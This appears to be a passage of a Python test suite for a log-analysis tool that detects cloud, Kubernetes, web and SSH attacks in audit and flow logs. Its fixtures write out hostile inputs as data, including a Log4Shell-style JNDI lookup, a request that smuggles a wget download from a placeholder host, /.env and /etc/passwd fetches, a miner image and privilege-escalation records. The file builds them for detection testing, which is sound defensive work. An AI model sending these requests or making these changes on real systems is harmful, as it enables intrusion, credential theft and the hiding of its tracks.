# SPDX-License-Identifier: Apache-2.0
"""davy logs over whole logs: days on which nothing happened, techniques that others recorded, and what only several records show."""
import collections
import datetime
import json
import os
import pathlib
import shutil
import subprocess
import sys
import tempfile
import unittest

import mmdb
import ordinary_days
import postgres

sys.path.append(str(pathlib.Path(__file__).resolve().parents[2] / 'src/sink'))
import check_formats  # noqa: E402

DAVY = os.environ['DAVY']
DATA = pathlib.Path(__file__).resolve().parents[2].parent / 'shared' / 'data'
STRATUS = DATA / 'cloudlogs' / 'stratus' / 'detonation-logs'
OPENSSH = DATA / 'auth' / 'OpenSSH_2k.log'
LOUD = ('emergency', 'alert', 'critical', 'error', 'warning')


def masked(value):
    """The same without what the client says of itself."""
    if isinstance(value, dict):
        return {k: 'masked' if k == 'userAgent' else masked(v) for k, v in value.items()}
    return [masked(v) for v in value] if isinstance(value, list) else value


def k8s(verb, resource, user='mallory', code=201, body=None, namespace='default', name='x', sub=None, uri='/api/v1/x', decision='allow'):
    ref = {'resource': resource, 'apiVersion': 'v1', 'name': name}
    if namespace:
        ref['namespace'] = namespace
    if sub:
        ref['subresource'] = sub
    e = {'kind': 'Event', 'apiVersion': 'audit.k8s.io/v1', 'level': 'RequestResponse', 'auditID': '1', 'stage': 'ResponseComplete', 'requestURI': uri, 'verb': verb, 'user': {'username': user, 'groups': ['system:authenticated']},
         'sourceIPs': ['203.0.113.9'], 'userAgent': 'masked', 'objectRef': ref, 'responseStatus': {'code': code}, 'requestReceivedTimestamp': '2026-03-02T10:00:00.000000Z', 'stageTimestamp': '2026-03-02T10:00:00.000000Z',
         'annotations': {'authorization.k8s.io/decision': decision}}
    if body:
        e['requestObject'] = body
    return e


def pod(image='nginx', **spec):
    security = spec.pop('security', {})
    return {'kind': 'Pod', 'metadata': {'name': 'x'}, 'spec': {'containers': [{'name': 'c', 'image': image, 'securityContext': security}], **spec}}


def gcp(method, service='compute.googleapis.com', request=None, **payload):
    p = {'@type': 'type.googleapis.com/google.cloud.audit.AuditLog', 'status': {}, 'authenticationInfo': {'principalEmail': 'mallory@example.com'}, 'requestMetadata': {'callerIp': '203.0.113.9', 'callerSuppliedUserAgent': 'masked'},
         'serviceName': service, 'methodName': method, 'authorizationInfo': [{'permission': 'x', 'granted': True}], 'resourceName': 'projects/p/x', **payload}
    if request is not None:
        p['request'] = request
    return {'protoPayload': p, 'insertId': '1', 'resource': {'type': 'project', 'labels': {'project_id': 'p'}}, 'timestamp': '2026-03-02T10:00:00.0Z', 'severity': 'NOTICE', 'logName': 'projects/p/logs/cloudaudit.googleapis.com%2Factivity'}


def azure(operation, rest=False, **properties):
    if rest:
        return {'authorization': {'action': operation, 'scope': '/subscriptions/s/x'}, 'caller': 'mallory@example.com', 'channels': 'Operation', 'claims': {}, 'correlationId': 'c', 'eventTimestamp': '2026-03-02T10:00:00Z', 'level': 'Informational',
                'operationName': {'value': operation, 'localizedValue': operation}, 'category': {'value': 'Administrative'}, 'resourceId': '/subscriptions/s/x', 'status': {'value': 'Succeeded'}, 'subscriptionId': 's', 'httpRequest': {'clientIpAddress': '203.0.113.9'}, 'properties': properties}
    return {'time': '2026-03-02T10:00:00.0Z', 'resourceId': '/SUBSCRIPTIONS/S/X', 'operationName': operation.upper(), 'category': 'Administrative', 'resultType': 'Success', 'resultSignature': 'Succeeded.', 'callerIpAddress': '203.0.113.9', 'correlationId': 'c',
            'identity': {'authorization': {'action': operation}, 'claims': {'http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn': 'mallory@example.com'}}, 'level': 'Information', 'properties': properties}


# What somebody does, as each provider writes it, and the rule that must say so.
ACTS = [
    (k8s('create', 'pods', body=pod(security={'privileged': True}, hostPID=True)), 'Container made to take its node'),
    (k8s('create', 'pods', body=pod(volumes=[{'name': 'v', 'hostPath': {'path': '/'}}])), 'Folder of the node mounted in a container'),
    (k8s('create', 'daemonsets', body={'kind': 'DaemonSet', 'spec': {'template': {'spec': pod('metal3d/xmrig')['spec']}}}), 'Image that mines started'),
    (k8s('create', 'daemonsets', body={'kind': 'DaemonSet', 'spec': {'template': {'spec': pod()['spec']}}}), 'Something of its own runs on every node'),
    (k8s('create', 'pods', namespace='kube-system', body=pod()), 'Workload put among those of the cluster'),
    (k8s('list', 'secrets', code=200, namespace=None, name=None), 'Secrets of the whole cluster read'),
    (k8s('list', 'secrets', user='system:anonymous', code=200, namespace=None, uri='/api/v1/secrets'), 'Cluster answers whoever asks'),
    (k8s('create', 'clusterrolebindings', namespace=None, body={'kind': 'ClusterRoleBinding', 'roleRef': {'name': 'cluster-admin', 'kind': 'ClusterRole'}, 'subjects': [{'kind': 'User', 'name': 'mallory'}]}), 'Administrator of the cluster made'),
    (k8s('create', 'clusterrolebindings', namespace=None, body={'kind': 'ClusterRoleBinding', 'roleRef': {'name': 'view', 'kind': 'ClusterRole'}, 'subjects': [{'kind': 'User', 'name': 'system:anonymous'}]}), 'Rights for nobody in particular'),
    (k8s('create', 'pods', sub='exec', code=101, uri='/api/v1/namespaces/default/pods/x/exec?command=sh'), 'Command run in a container'),
    (k8s('create', 'pods', sub='exec', user='system:serviceaccount:default:web', code=101), 'Workload runs commands in others'),
    (k8s('get', 'nodes', sub='proxy', code=200, namespace=None), 'Node reached past the audit'),
    (k8s('update', 'configmaps', namespace='kube-system', name='coredns', code=200), 'Names of the cluster led elsewhere'),
    (k8s('delete', 'events', code=200), 'Events of the cluster deleted'),
    (gcp('google.logging.v2.ConfigServiceV2.DeleteSink', 'logging.googleapis.com'), 'Log of the project led elsewhere or deleted'),
    (gcp('SetIamPolicy', 'cloudresourcemanager.googleapis.com', serviceData={'policyDelta': {'auditConfigDeltas': [{'action': 'REMOVE', 'service': 'allServices'}]}}), 'Audit of the project told to record less'),
    (gcp('SetIamPolicy', 'cloudresourcemanager.googleapis.com', serviceData={'policyDelta': {'bindingDeltas': [{'action': 'ADD', 'role': 'roles/owner', 'member': 'user:mallory@gmail.com'}]}}), 'Owner of a project made'),
    (gcp('SetIamPolicy', 'cloudresourcemanager.googleapis.com', serviceData={'policyDelta': {'bindingDeltas': [{'action': 'ADD', 'role': 'roles/viewer', 'member': 'user:mallory@gmail.com'}]}}), 'Stranger let into a project'),
    (gcp('storage.setIamPermissions', 'storage.googleapis.com', serviceData={'policyDelta': {'bindingDeltas': [{'action': 'ADD', 'role': 'roles/storage.objectViewer', 'member': 'allUsers'}]}}), 'Bucket of Google Cloud opened to everybody'),
    (gcp('google.iam.admin.v1.CreateServiceAccountKey', 'iam.googleapis.com'), 'Key of a service account made'),
    (gcp('v1.compute.subnetworks.patch', request={'enableFlowLogs': False}), 'Flow logs of a network switched off'),
    (gcp('beta.compute.instances.insert', request={'guestAccelerators': [{'acceleratorCount': 4, 'acceleratorType': 'nvidia-tesla-t4'}], 'machineType': 'zones/a/machineTypes/n1-standard-8'}), 'Machine with graphics processors asked for in Google Cloud'),
    (gcp('v1.compute.instances.setMetadata', request={'metadata': {'items': [{'key': 'ssh-keys'}]}}), 'SSH keys or start-up script of machines set'),
    (gcp('v1.compute.firewalls.insert', request={'sourceRanges': ['0.0.0.0/0'], 'alloweds': [{'IPProtocol': 'tcp', 'ports': ['22']}]}), 'Firewall of Google Cloud opened to the internet'),
    (gcp('Dns.ManagedZones.Delete', 'dns.googleapis.com'), 'Names of a zone in Google Cloud changed'),
    (azure('Microsoft.Insights/diagnosticSettings/delete'), 'Log of Azure switched off'),
    (azure('Microsoft.Network/networkWatchers/flowLogs/delete', rest=True), 'Log of Azure switched off'),
    (azure('Microsoft.Authorization/elevateAccess/action', rest=True), 'Everything in the tenant taken'),
    (azure('Microsoft.Compute/virtualMachines/runCommand/action'), 'Commands run on machines of Azure'),
    (azure('Microsoft.Authorization/roleAssignments/write', requestbody=json.dumps({'properties': {'roleDefinitionId': '/providers/Microsoft.Authorization/roleDefinitions/8e3af657-a8ff-443c-a75c-2fe8c4bcb635'}})), 'Owner in Azure made'),
    (azure('Microsoft.Network/dnszones/NS/write', rest=True), 'Servers or mail of a zone in Azure set'),
    (azure('Microsoft.Storage/storageAccounts/listKeys/action'), 'Keys of a store or cluster read'),
    (azure('Microsoft.Security/alertsSuppressionRules/write', rest=True), 'Watching of Azure told to look away'),
    (azure('Microsoft.Network/networkSecurityGroups/securityRules/write', requestbody=json.dumps({'properties': {'access': 'Allow', 'sourceAddressPrefix': '*', 'destinationPortRange': '22', 'protocol': 'Tcp'}})), 'Firewall of Azure opened to the internet'),
]


class Logs(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.temp = pathlib.Path(tempfile.mkdtemp(prefix='davy-logs-'))
        cls.addClassCleanup(shutil.rmtree, cls.temp, ignore_errors=True)

    def findings(self, *paths, options=()):
        run = subprocess.run([DAVY, 'logs', '-f', 'json', '--quiet', *options, *map(str, paths)], capture_output=True, env={**os.environ, 'LC_ALL': 'C.UTF-8'}, timeout=600)
        self.assertEqual(run.returncode, 0, run.stderr.decode()[-2000:])
        return [json.loads(line) for line in run.stdout.splitlines()]

    def loud(self, findings):
        return collections.Counter(f'{f["priority"]}: {f["rule"]}: {f["message"]}' for f in findings if f['priority'].lower() in LOUD)

    def write(self, name, records):
        path = self.temp / name
        path.write_text('\n'.join(json.dumps(r) if isinstance(r, dict) else r for r in records) + '\n')
        return path


class OrdinaryDays(Logs):
    """Each format alone, so that a failure names it, and all together."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.made = ordinary_days.Days(cls.temp / 'days', days=9)
        cls.paths = cls.made.all()

    def test_nothing_is_said_of_any_format(self):
        for path in [p for p in self.paths if 'CloudTrail' not in p.name]:
            with self.subTest(path.name):
                self.assertEqual(self.loud(self.findings(path)), {})

    def test_nothing_is_said_of_all_together(self):
        self.assertEqual(self.loud(self.findings(self.temp / 'days')), {})

    def test_every_format_was_read(self):
        run = subprocess.run([DAVY, 'logs', '-f', 'json', '--stats', str(self.temp / 'days')], capture_output=True, text=True, env={**os.environ, 'LC_ALL': 'C.UTF-8'}, timeout=600)
        for name in ('cloudtrail', 'k8s-audit', 'gcp-audit', 'azure-activity', 'entra', 'syslog', 'auditd', 'access', 'flow', 'flow-json', 'gcp-flow', 'journal', 'journal-json', 'route53-resolver', 'access-json', 'okta', 'm365', 'github', 'actiontrail', 'huawei-cts', 'oci-audit', 'zeek', 'suricata', 'database', 'falco-alert'):
            self.assertRegex(run.stderr, rf'(?m)^ +{name} \d+')
        self.assertNotIn('files of no known format', run.stderr)


class Techniques(Logs):
    @unittest.skipUnless(STRATUS.is_dir(), 'the shared data is not here')
    def test_every_technique_is_found_whatever_the_client_calls_itself(self):
        missed = []
        for path in sorted(STRATUS.glob('*.json')):
            copy = self.temp / path.name
            copy.write_text(json.dumps(masked(json.loads(path.read_text()))))
            if not [f for f in self.findings(copy) if f['priority'].lower() not in ('debug', 'informational')]:
                missed.append(path.name)
        self.assertEqual(missed, [])

    @unittest.skipUnless(OPENSSH.is_file(), 'the shared data is not here')
    def test_guessing_is_found_and_the_one_login_is_none_of_it(self):
        found = self.findings(OPENSSH)
        loud = {(f['rule'], f['output_fields'].get('login.ip')) for f in found if f['priority'].lower() in LOUD}
        self.assertIn(('Passwords guessed from one address', '183.62.140.253'), loud)
        self.assertIn(('Many names tried from one address', '103.99.0.122'), loud)
        self.assertNotIn('Password guessed', {f['rule'] for f in found})
        self.assertNotIn('119.137.62.142', {f['output_fields'].get('login.ip') for f in found if f['priority'].lower() in LOUD})

    def test_acts_in_other_clouds(self):
        records = self.write('acts.json', [act for act, _ in ACTS])
        said = collections.defaultdict(set)
        for f in self.findings(records):
            said[f['num']].add(f['rule'])
        self.assertEqual([rule for i, (_, rule) in enumerate(ACTS) if rule not in said[i + 1]], [])

    def test_requests_of_the_web(self):
        lines = {'Job given to an open Hadoop cluster': 'POST /ws/v1/cluster/apps/new-application HTTP/1.1" 200 90', 'Engine of containers asked over the web': 'POST /v1.24/containers/create HTTP/1.1" 201 90',
                 'Request for a known hole': 'GET /?x=$%7Bjndi:ldap://203.0.113.9/a%7D HTTP/1.1" 404 0', 'Command in a request': 'GET /cgi-bin/x?cmd=%3Bwget+http://203.0.113.9/x+-O+/tmp/x HTTP/1.1" 404 0',
                 'Files of secrets given out': 'GET /.env HTTP/1.1" 200 812', 'Web shell called': 'POST /uploads/2026/x.php HTTP/1.1" 200 4', 'Way out of the folder in a request': 'GET /d?f=..%2f..%2f..%2fetc%2fpasswd HTTP/1.1" 404 0'}
        path = self.write('access.log', [f'203.0.113.{i} - - [29/Nov/2026:12:00:00 +0000] "{request} "-" "Mozilla/5.0"' for i, request in enumerate(lines.values())])
        said = {(f['num'], f['rule']) for f in self.findings(path)}
        self.assertEqual([rule for i, rule in enumerate(lines) if (i + 1, rule) not in said], [])

    def test_flows(self):
        t = 1772445600
        lines = [f'2 111122223333 eni-1 10.0.0.5 203.0.113.{i} {40000 + i} 22 6 10 900 {t + i} {t + i + 60} ACCEPT OK' for i in range(1, 40)]
        lines += [f'2 111122223333 eni-2 10.0.0.6 203.0.113.99 41000 3333 6 20 4000 {t + i * 120} {t + i * 120 + 60} ACCEPT OK' for i in range(30)]
        lines += [f'2 111122223333 eni-3 10.0.0.7 203.0.113.98 41000 53 17 4000000 240000000 {t} {t + 60} ACCEPT OK']
        self.assertEqual({f['rule'] for f in self.findings(self.write('flow.log', lines)) if f['priority'].lower() in LOUD}, {'Many machines tried by one', 'Flow like that of mining', 'Flood sent'})

    def test_flows_of_azure_and_google(self):
        """The same three in the words of other clouds: groups and networks of Azure, whose records hold many flows, and Google's."""
        t = 1772445600
        flows = [(t + i, '10.0.0.5', f'203.0.113.{i}', 40000 + i, 22, 6, 10, 900) for i in range(1, 40)]
        flows += [(t + i * 120, '10.0.0.6', '203.0.113.99', 41000, 3333, 6, 20, 4000) for i in range(30)]
        flows += [(t, '10.0.0.7', '203.0.113.98', 41000, 53, 17, 4000000, 240000000)]
        want = {'Many machines tried by one', 'Flow like that of mining', 'Flood sent'}
        group = [f'{s},{a},{b},{p},{q},{"T" if proto == 6 else "U"},O,A,E,{n},{size},0,0' for s, a, b, p, q, proto, n, size in flows]
        network = [f'{s * 1000},{a},{b},{p},{q},{proto},O,E,NX,{n},{size},0,0' for s, a, b, p, q, proto, n, size in flows]
        when = '2026-03-02T10:00:00Z'
        of_group = {'records': [{'time': when, 'category': 'NetworkSecurityGroupFlowEvent', 'resourceId': '/SUBSCRIPTIONS/0B1F6471/X/WEB', 'operationName': 'NetworkSecurityGroupFlowEvents',
                                 'properties': {'Version': 2, 'flows': [{'rule': 'r', 'flows': [{'mac': '000D3AF87856', 'flowTuples': group}]}]}}]}
        of_network = {'records': [{'time': when, 'flowLogVersion': 4, 'macAddress': '000D3AF87856', 'category': 'FlowLogFlowEvent', 'operationName': 'FlowLogFlowEvent',
                                   'targetResourceID': '/subscriptions/0b1f6471/x/vnet', 'flowRecords': {'flows': [{'aclID': 'a', 'flowGroups': [{'rule': 'r', 'flowTuples': network}]}]}}]}
        stamp = lambda s: datetime.datetime.fromtimestamp(s, datetime.timezone.utc).isoformat()
        google = [{'insertId': f'{n}', 'logName': 'projects/p/logs/compute.googleapis.com%2Fvpc_flows', 'timestamp': stamp(s + 60),
                   'jsonPayload': {'connection': {'src_ip': a, 'dest_ip': b, 'src_port': p, 'dest_port': q, 'protocol': proto}, 'bytes_sent': str(size), 'packets_sent': str(packets), 'start_time': stamp(s),
                                   'reporter': 'SRC', 'src_instance': {'project_id': 'p', 'vm_name': 'v'}}} for n, (s, a, b, p, q, proto, packets, size) in enumerate(flows)]
        for name, text in (('group.json', [json.dumps(of_group)]), ('network.json', [json.dumps(of_network)]), ('google.json', [json.dumps(g) for g in google])):
            with self.subTest(name):
                self.assertEqual({f['rule'] for f in self.findings(self.write(name, text)) if f['priority'].lower() in LOUD}, want)

    def test_a_password_that_was_guessed(self):
        lines = [f'Dec 10 06:55:{i:02d} web1 sshd[1]: Failed password for root from 203.0.113.9 port 4000 ssh2' for i in range(5)]
        lines.append('Dec 10 06:55:30 web1 sshd[1]: message repeated 5 times: [ Failed password for root from 203.0.113.9 port 4000 ssh2]')
        lines.append('Dec 10 06:56:00 web1 sshd[2]: Accepted password for root from 203.0.113.9 port 4001 ssh2')
        found = {f['rule']: f['priority'] for f in self.findings(self.write('auth.log', lines))}
        self.assertEqual(found.get('Password guessed'), 'Critical')
        lines[-1] = lines[-1].replace('203.0.113.9', '198.51.100.4')
        self.assertNotIn('Password guessed', {f['rule'] for f in self.findings(self.write('auth.log', lines))})


@unittest.skipUnless(STRATUS.is_dir(), 'the shared data is not here')
class Pages(Logs):
    def test_a_page_tells_what_the_summary_tells(self):
        with tempfile.TemporaryDirectory() as folder:
            page, text = pathlib.Path(folder, 'page.html'), pathlib.Path(folder, 'page.txt')
            for language in ('C.UTF-8', 'ja_JP.UTF-8'):
                done = subprocess.run([DAVY, 'logs', '-q', '-v', '-f', f'html={page}', '-f', f'summary={text}', STRATUS], capture_output=True, text=True, timeout=300,
                                      env={**os.environ, 'LC_ALL': language, 'TZ': 'UTC'})
                self.assertEqual((done.returncode, done.stdout), (0, ''), done.stderr)
                self.assertEqual(check_formats.check_html(page.read_bytes()), [])
                parser = check_formats.Page()
                parser.feed(page.read_text())
                told = ''.join(parser.text)
                lines = [line.split('  ')[0] for line in text.read_text().splitlines()]
                heads = [line.split(None, 1) for line in text.read_text().splitlines() if line.startswith(' ') and line[1:].split(' ')[0] in ('CRITICAL', 'HIGH', 'MEDIUM')]
                self.assertGreater(len(lines), 100)
                if language == 'C.UTF-8':
                    self.assertGreater(len(heads), 20)
                    for _, rest in heads:
                        name = rest.split('   ')[0].split(' ×')[0].strip()
                        self.assertIn(name, told)
                else:
                    self.assertIn('起きた時刻', told)


class Made(Logs):
    """Records that are made here."""

    def days(self):
        return ordinary_days.Days(self.temp / 'made', days=9, seed=7)

    def user(self, name='ci', key='AKIAIOSFODNN7EXAMPLE'):
        return {'type': 'IAMUser', 'principalId': 'AIDAEXAMPLE', 'arn': f'arn:aws:iam::{ordinary_days.ACCOUNT}:user/{name}', 'accountId': ordinary_days.ACCOUNT, 'accessKeyId': key, 'userName': name}

    def history(self, d, days=20):
        return [d.record(d.at(day, hour), 's3', 'ListObjects', self.user(), '198.51.100.5', ordinary_days.AGENTS['cli'], {'bucketName': 'x'}) for day in range(days) for hour in range(0, 24, 4)]

    def check_open_case(self, store):
        d = self.days()
        machine, other = 'i-0fedcba9876543210', 'i-00000000000000001'

        def end(day, name):
            return d.record(d.at(day, 10), 'ec2', 'TerminateInstances', self.user('admin', 'AKIAI44QH8DHBEXAMPLE'), '198.51.100.9', 'x', {'instancesSet': {'items': [{'instanceId': name}]}}, {'instancesSet': {'items': [{'instanceId': name}]}}, readonly=False)
        keep = ('--store', str(store))
        gathered = d.record(d.at(1, 10), 'ec2', 'RunInstances', self.user(), '203.0.113.50', 'x', {'instanceType': 'p4d.24xlarge', 'instancesSet': {'items': [{'minCount': 1, 'maxCount': 40}]}},
                            {'instancesSet': {'items': [{'instanceId': machine}] * 40}}, readonly=False)
        self.assertTrue(self.loud(self.findings(self.write('spree.json', [gathered]), options=keep)))
        log = self.write('ended.json', [end(0, machine), end(3, other), end(3, machine)])
        rule = 'Machine of an open case ended'
        self.assertNotIn(rule, {f['rule'] for f in self.findings(log)})
        found = [f for f in self.findings(log, options=keep) if f['rule'] == rule]
        self.assertEqual(len(found), 1)
        self.assertIn(machine, found[0]['message'])
        for case in json.loads(subprocess.run([DAVY, 'case', 'list', '--format', 'json', *keep], capture_output=True, check=True).stdout)['cases']:
            subprocess.run([DAVY, 'case', 'close', str(case['id']), '--reason', 'of a test', *keep], check=True, capture_output=True)
        self.assertNotIn(rule, {f['rule'] for f in self.findings(log, options=keep)})


class Adding(Made):
    """What records add up to."""

    def test_a_key_in_other_hands(self):
        d = self.days()
        calm = self.history(d)
        stolen = d.record(d.at(20, 3), 'ec2', 'DescribeInstances', self.user(), '203.0.113.99', ordinary_days.AGENTS['sdk'], {}, region='ap-southeast-3')
        self.assertEqual(self.loud(self.findings(self.write('calm.json', calm))), {})
        found = {f['rule']: f['message'] for f in self.findings(self.write('stolen.json', calm + [stolen]))}
        self.assertIn('Key used from a new network with a new client', found)
        self.assertIn('first time in 20 days that AKIAIOSFODNN7EXAMPLE', found['Key used in a new region for a new service'])
        self.assertIn('calls ec2 in ap-southeast-3', found['Key used in a new region for a new service'])

    def test_what_is_usual_is_kept_between_runs(self):
        d = self.days()
        state = self.temp / 'state'
        stolen = d.record(d.at(20, 3), 'ec2', 'DescribeInstances', self.user(), '203.0.113.99', ordinary_days.AGENTS['sdk'], {}, region='ap-southeast-3')
        alone = self.write('alone.json', [stolen])
        self.assertEqual(self.loud(self.findings(alone)), {})
        self.findings(self.write('calm.json', self.history(d)), options=('--state', str(state)))
        self.assertIn('Key used in a new region for a new service', {f['rule'] for f in self.findings(alone, options=('--state', str(state)))})
        (self.temp / 'state.logs').write_bytes(b'nonsense')
        self.assertEqual(self.loud(self.findings(alone, options=('--state', str(state)))), {})

    def test_a_key_that_slept(self):
        d = self.days()
        late = d.record(d.at(120, 3), 's3', 'ListBuckets', self.user(), '203.0.113.99', ordinary_days.AGENTS['cli'], {})
        self.assertIn('Key that slept used again', {f['rule'] for f in self.findings(self.write('slept.json', self.history(d) + [late]))})

    def test_money(self):
        d = self.days()
        def start(count, kind, **more):
            return d.record(d.at(1, 3, 0, 5), 'ec2', 'RunInstances', self.user(), '198.51.100.5', 'x', {'instanceType': kind, 'instancesSet': {'items': [{'minCount': 1, 'maxCount': count}]}},
                            {'instancesSet': {'items': [{'instanceId': f'i-{k:017x}'} for k in range(count)]}}, readonly=False, **more)
        little = {f['rule'] for f in self.findings(self.write('little.json', [start(2, 't3.large')]))}
        self.assertNotIn('Machines started for much money an hour', little)
        found = {f['rule']: f['message'] for f in self.findings(self.write('much.json', [start(50, 'c5.24xlarge')] * 6))}
        self.assertIn('1224', found['Machines started for very much money an hour'])

    def test_a_name_led_elsewhere(self):
        d = self.days()

        def change(day, value, ttl, name='www.example.com.', kind='A'):
            return d.record(d.at(day, 10), 'route53', 'ChangeResourceRecordSets', self.user(), '198.51.100.5', 'x',
                            {'hostedZoneId': 'Z1', 'changeBatch': {'changes': [{'action': 'UPSERT', 'resourceRecordSet': {'name': name, 'type': kind, 'tTL': ttl, 'resourceRecords': [{'value': value}]}}]}}, {'changeInfo': {}}, region='us-east-1', readonly=False)
        calm = [change(0, '198.51.100.7', 3600), change(1, '198.51.100.7', 300), change(2, '"x"', 60, '_acme-challenge.www.example.com.', 'TXT'), change(3, '"y"', 60, '_acme-challenge.www.example.com.', 'TXT')]
        self.assertEqual(self.loud(self.findings(self.write('calm.json', calm))), {})
        found = {f['rule']: f['message'] for f in self.findings(self.write('led.json', calm + [change(4, '203.0.113.66', 60)]))}
        self.assertIn('www.example.com A: 198.51.100.7 (300 s) is 203.0.113.66 (60 s) now', found['Known name led elsewhere'])

    def test_bytes_to_elsewhere(self):
        d = self.days()
        path = d.flows()[0]
        calm = path.read_text().splitlines()
        t = int(datetime.datetime(2026, 3, 10, 14, 5, tzinfo=datetime.timezone.utc).timestamp())
        columns = calm[1].split()[:3] + ['10.0.1.10', '203.0.113.99', '50000', '443', '6', '900000', '40000000000', str(t), str(t + 60), 'ACCEPT', 'OK', 'vpc-1', 'subnet-1', '-', '19', 'IPv4', '10.0.1.10', '203.0.113.99', 'eu-central-1', 'euc1-az1', 'egress', '8']
        out = [line for line in calm[1:] if int(line.split()[10]) < t]
        found = {f['rule']: f['message'] for f in self.findings(self.write('sent.log', [calm[0]] + out + [' '.join(columns)]))}
        self.assertIn('GB from 10.0.1.10 to internet', found['Far more sent than usual at this hour'])

    def test_countries_by_a_database_of_the_user(self):
        d = self.days()
        mmdb.write(self.temp / 'city.mmdb', mmdb.CITY)
        mmdb.write(self.temp / 'asn.mmdb', mmdb.ASN, kind='Test-ASN')
        geo = ('--geo', str(self.temp / 'city.mmdb'), '--geo', str(self.temp / 'asn.mmdb'))
        calm = self.history(d)
        stolen = d.record(d.at(20, 0, 30), 's3', 'ListObjects', self.user(), '203.0.113.99', ordinary_days.AGENTS['cli'], {'bucketName': 'x'})
        home = d.record(d.at(20, 0, 25), 's3', 'ListObjects', self.user(), '198.51.100.5', ordinary_days.AGENTS['cli'], {'bucketName': 'x'})
        self.assertEqual(self.loud(self.findings(self.write('calm.json', calm), options=geo)), {})
        found = {f['rule']: f['message'] for f in self.findings(self.write('stolen.json', calm + [home, stolen]), options=geo)}
        self.assertIn('comes from BR (AS64501 Somebody Hosting, 203.0.113.99)', found['Key used from a new country'])
        self.assertIn('from BR (AS64501 Somebody Hosting, 203.0.113.99) and within the hour from DE', found['Key used from two countries within an hour'])
        self.assertIn('and AS64500', found['Key used through two network operators at once'])
        self.assertNotIn('Key used from a new country', {f['rule'] for f in self.findings(self.write('stolen.json', calm + [home, stolen]))})
        bad = subprocess.run([DAVY, 'logs', '--geo', __file__, self.temp / 'calm.json'], capture_output=True, text=True)
        self.assertEqual(bad.returncode, 3)
        self.assertIn('no database of the MaxMind format', bad.stderr)

    def test_a_person_in_another_country(self):
        """Services that people sign in to: by the database, and by what GitHub says itself; with the same client it is a journey."""
        mmdb.write(self.temp / 'city.mmdb', mmdb.CITY)
        geo = ('--geo', str(self.temp / 'city.mmdb'))
        start = datetime.datetime(2026, 3, 2, 8, tzinfo=datetime.timezone.utc)
        phone = 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1'

        def okta(when, ip, agent, country):
            return {'uuid': when.isoformat(), 'published': when.strftime('%Y-%m-%dT%H:%M:%S.000Z'), 'eventType': 'user.authentication.sso', 'actor': {'id': '00u1', 'type': 'User', 'alternateId': 'alice@example.com', 'displayName': 'a'},
                    'client': {'userAgent': {'rawUserAgent': agent}, 'ipAddress': ip}, 'outcome': {'result': 'SUCCESS'}, 'target': None}

        def m365(when, ip, agent, country):
            return {'CreationTime': when.strftime('%Y-%m-%dT%H:%M:%S'), 'Id': when.isoformat(), 'Operation': 'FileAccessed', 'OrganizationId': 'o', 'RecordType': 1, 'ResultStatus': 'Succeeded', 'UserKey': 'a', 'UserType': 0, 'Version': 1, 'Workload': 'SharePoint',
                    'ClientIP': ip, 'ObjectId': 'x', 'UserId': 'alice@example.com', 'UserAgent': agent}

        def github(when, ip, agent, country):
            stamp = int(when.timestamp() * 1000)
            return {'@timestamp': stamp, '_document_id': str(stamp), 'action': 'pull_request.create', 'actor': 'alice', 'actor_ip': ip, 'actor_location': {'country_code': country}, 'org': 'example', 'repo': 'example/x', 'user_agent': agent, 'created_at': stamp}
        for make, options in ((okta, geo), (m365, geo), (github, ())):
            with self.subTest(make.__name__):
                home = [make(start + datetime.timedelta(days=d, hours=h), '198.51.100.5', ordinary_days.AGENTS['console'], 'DE') for d in range(12) for h in range(8)]
                away = start + datetime.timedelta(days=13)
                journey = self.findings(self.write('journey.json', home + [make(away, '203.0.113.99', ordinary_days.AGENTS['console'], 'BR')]), options=options)
                self.assertIn('Person in a country that they never came from', {f['rule'] for f in journey})
                self.assertEqual(self.loud(journey), {})
                other = {f['rule']: f for f in self.findings(self.write('other.json', home + [make(away, '203.0.113.99', phone, 'BR')]), options=options)}
                self.assertIn('comes from BR (203.0.113.99)', other['Person in a country that they never came from with another client']['message'])
                # a telephone at home, months away, another network: nothing
                calm = [make(away, '198.51.100.5', phone, 'DE'), make(away + datetime.timedelta(days=90), '198.51.100.77', phone, 'DE')]
                self.assertEqual(self.loud(self.findings(self.write('calm.json', home + calm), options=options)), {})

    def test_bytes_to_another_cloud(self):
        d = self.days()
        path = d.flows()[0]
        calm = path.read_text().splitlines()
        t = int(datetime.datetime(2026, 3, 10, 14, 5, tzinfo=datetime.timezone.utc).timestamp())
        columns = calm[1].split()[:3] + ['10.0.1.10', '34.0.0.9', '50000', '443', '6', '9000000', '40000000000', str(t), str(t + 60), 'ACCEPT', 'OK', 'vpc-1', 'subnet-1', '-', '19', 'IPv4', '10.0.1.10', '34.0.0.9', 'eu-central-1', 'euc1-az1', 'egress', '8']
        out = [line for line in calm[1:] if int(line.split()[10]) < t]
        found = {f['rule']: f['message'] for f in self.findings(self.write('sent.log', [calm[0]] + out + [' '.join(columns)]))}
        self.assertIn('to gcp in this hour, for the first time in', found['Much sent to another cloud for the first time'])
        self.assertIn('3.6', found['Much sent to another cloud for the first time'])
        ranges = self.temp / 'own.json'
        ranges.write_text(json.dumps({'prefixes': [{'ip_prefix': '34.0.0.0/20', 'region': 'mars-1'}]}))
        found = {f['rule']: f['message'] for f in self.findings(self.temp / 'sent.log', options=('--list', f'provider:own={ranges}', '--list', f'provider:gcp={ranges}'))}
        self.assertIn('to gcp mars-1 in this hour', found['Much sent to another cloud for the first time'])
        for wrong, code in ((f'own={ranges}', 2), (f'provider:own={self.temp}/none', 3), (f'provider:Own={ranges}', 3)):
            self.assertEqual(subprocess.run([DAVY, 'logs', '--list', wrong, self.temp / 'sent.log'], capture_output=True).returncode, code, wrong)

    def test_a_resolver_that_was_lied_to(self):
        def answer(t, address):
            return {'version': '1.100000', 'account_id': '111122223333', 'region': 'eu-west-1', 'vpc_id': 'vpc-1', 'query_timestamp': t.strftime('%Y-%m-%dT%H:%M:%SZ'), 'query_name': 'login.example.com.', 'query_type': 'A', 'query_class': 'IN',
                    'rcode': 'NOERROR', 'answers': [{'Rdata': address, 'Type': 'A', 'Class': 'IN'}], 'srcaddr': '10.0.1.7', 'srcport': '53000', 'transport': 'UDP', 'srcids': {'instance': 'i-0123456789abcdef0'}}
        begin = datetime.datetime(2026, 3, 1, tzinfo=datetime.timezone.utc)
